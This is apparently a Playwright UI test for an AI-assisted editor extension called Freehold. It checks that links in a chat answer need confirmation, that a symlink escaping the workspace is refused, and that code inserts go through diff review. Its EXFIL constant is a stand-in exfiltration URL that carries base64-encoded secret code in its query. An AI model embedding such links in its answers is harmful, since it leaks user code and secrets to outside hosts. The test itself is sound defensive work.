// Links in a chat answer, clicked in the real webview: a web address shows its full URL in Freehold's
// confirmation first (declining opens nothing, and the next click asks again); a file link that reaches out of
// the workspace through a symbolic link is refused; a plain workspace file opens in the editor. Insert of a
// multi-line code block is a proposal in the diff review, not an edit: the file is unchanged until Accept.
import * as assert from "node:assert/strict";
import { mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Page, Request } from "playwright-core";
import { withWorkbench, type UiTest } from "./harness";
import { conversation, openChat, runCommand, withChatSeed } from "./chatHelpers";

const EXFIL = "https://exfil.invalid/collect?code=c2VjcmV0LWNvZGU%3D&repo=workspace";
const ANSWER = `See [the docs](${EXFIL}), the file [a.ts](src/a.ts) and [the notes](linked/notes.txt).\n\n\`\`\`ts\nexport const b = 2;\nexport const c = 3;\n\`\`\`\n`;
const ORIGINAL = "export const a = 1;\n";
const QUESTION = /Open this link from the Freehold chat in your browser\?/;

export const tests: UiTest[] = [
  {
    name: "chat links: a web link shows its full URL in a confirmation; declining opens nothing; a file link out through a symlink is refused",
    async run({ modelPath }) {
      const outside = mkdtempSync(join(tmpdir(), "freehold-ui-outside-"));
      writeFileSync(join(outside, "notes.txt"), "private notes outside the workspace\n");
      const seeded = conversation("links", "Links", [
        { role: "user", text: "where are the docs?" },
        { role: "assistant", text: ANSWER },
      ]);
      const settings = { "freehold.completions.model": modelPath, "freehold.model.gpuLayers": 0, "freehold.model.contextSize": 1024 };
      try {
        await withChatSeed([seeded], seeded.id, () =>
          withWorkbench({ name: "chat-links", settings, files: { "src/a.ts": ORIGINAL } }, async (wb) => {
            symlinkSync(outside, join(wb.workspace, "linked"), "dir");
            const opened: Page[] = [];
            const requests: string[] = [];
            wb.page.context().on("page", (page) => opened.push(page));
            wb.page.context().on("request", (request: Request) => requests.push(request.url()));
            const chat = await wb.step("view-opens", () => openChat(wb));
            const link = (name: string) => chat.locator("#log a", { hasText: name });
            await link("the docs").waitFor({ timeout: 60_000 });

            for (const attempt of [1, 2]) {
              await wb.step(`web-link-confirmation-${attempt}`, async () => {
                await link("the docs").click();
                const dialog = wb.page.locator(".monaco-dialog-box");
                await dialog.waitFor({ state: "visible", timeout: 20_000 });
                const text = await dialog.innerText();
                assert.match(text, QUESTION);
                assert.ok(text.includes(EXFIL), `the dialog shows the whole address, query included:\n${text}`);
                await dialog.getByRole("button", { name: "Cancel" }).click();
                await dialog.waitFor({ state: "hidden", timeout: 10_000 });
                await wb.page.waitForTimeout(1000);
                assert.deepEqual(opened.map((p) => p.url()), [], "declining opened no window");
                assert.deepEqual(requests.filter((url) => url.includes("exfil.invalid")), [], "no request went to the link's host");
              });
            }
            assert.ok(wb.freeholdLog().filter((l) => l.includes("chat link not opened (declined)")).length >= 2, "each decline is logged");

            await wb.step("file-link-out-of-workspace-refused", async () => {
              await link("the notes").click();
              await wb.waitFor(() => wb.freeholdLog().some((l) => l.includes("chat link refused (a link out of the workspace)")), 20_000, "the refusal is logged");
              // The notification centre lists the warning (a toast may have hidden already).
              await runCommand(wb, "Notifications: Show Notifications");
              await wb.page.locator(".notifications-center .monaco-list-row", { hasText: "Freehold did not open the link: a path outside the workspace" }).first().waitFor({ timeout: 20_000 });
              await runCommand(wb, "Notifications: Hide Notifications");
              assert.equal(await wb.page.locator(`.monaco-editor[data-uri$="notes.txt"]`).count(), 0, "no editor shows the file outside");
              assert.equal(await wb.page.locator(".tab", { hasText: "notes.txt" }).count(), 0);
            });

            await wb.step("workspace-file-link-opens", async () => {
              await link("a.ts").click();
              await wb.page.locator(`.monaco-editor[data-uri$="/src/a.ts"]`).first().waitFor({ timeout: 20_000 });
            });

            await wb.step("multi-line-insert-is-reviewed", async () => {
              await wb.page.locator(`.monaco-editor[data-uri$="/src/a.ts"] .view-lines`).first().click();
              await wb.page.keyboard.press("Control+End");
              await chat.locator("pre").first().hover();
              await chat.locator('pre button[data-action="insert"]').first().click();
              await wb.page.locator(".monaco-diff-editor").first().waitFor({ timeout: 30_000 });
              await wb.page.locator(".tab", { hasText: "Freehold: Insert" }).first().waitFor({ timeout: 10_000 });
              assert.equal(readFileSync(join(wb.workspace, "src/a.ts"), "utf8"), ORIGINAL, "nothing written");
              await runCommand(wb, "Freehold: Reject Proposed Change");
              await wb.waitFor(async () => (await wb.page.locator(".monaco-diff-editor").count()) === 0, 20_000, "the diff closes after Reject");
              assert.deepEqual((await wb.editorLines()).filter((l) => l.trim()), ["export const a = 1;"], "rejected: the file is as it was");
            });
          }),
        );
      } finally {
        rmSync(outside, { recursive: true, force: true });
      }
    },
  },
];
